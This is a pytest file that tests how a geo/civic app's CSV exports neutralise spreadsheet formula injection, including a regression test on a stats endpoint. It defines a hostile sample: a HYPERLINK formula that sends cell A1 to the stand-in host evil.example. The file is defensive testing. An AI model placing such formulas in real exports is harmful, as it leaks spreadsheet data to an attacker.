"""Exports write cells a spreadsheet would run as formulas as text (OWASP: a leading single quote)."""

import csv
import io

import pytest
from sqlalchemy import text

from geo_app.services.exports import csv_text, percent, text_cell

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HOSTILE])
def test_formula_starts_are_written_as_text(value):
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["王小明（楼栋长）", "2024-05", "", None, 5, -3, 0.25, "a=b", "1+1"])
def test_other_cells_pass_unchanged(value):
    assert text_cell(value) == value


def test_percent_reads_as_a_person_writes_it():
    assert [percent(r) for r in (0.9894, 1, 0, None)] == ["98.9%", "100.0%", "0.0%", None]


def test_csv_text_reads_back_with_every_hostile_cell_quoted():
    rows = [{"key": "1", "label": HOSTILE, "n": -4}, {"key": "@x", "label": "正常", "n": 3}]
    read = list(csv.DictReader(io.StringIO(csv_text(["key", "label", "n"], rows))))
    assert read == [{"key": "1", "label": "'" + HOSTILE, "n": "-4"}, {"key": "'@x", "label": "正常", "n": "3"}]


def test_a_person_named_like_a_formula_is_text_in_the_stats_csv(app, client):
    """The break: a person named =HYPERLINK(…) became a live formula in /api/v1/stats?format=csv."""
    from geo_app.extensions import db

    with app.app_context():
        renamed = db.session.execute(text(
            "UPDATE person SET name = :n WHERE id = (SELECT assignee_id FROM civic_case WHERE assignee_id IS NOT NULL "
            "ORDER BY id LIMIT 1) RETURNING id"), {"n": HOSTILE}).scalar_one()
        db.session.commit()
    response = client.get("/api/v1/stats?by=assignee&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert renamed
    [row] = [r for r in rows if HOSTILE in r["名称"]]
    assert row["名称"].startswith("'" + HOSTILE)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
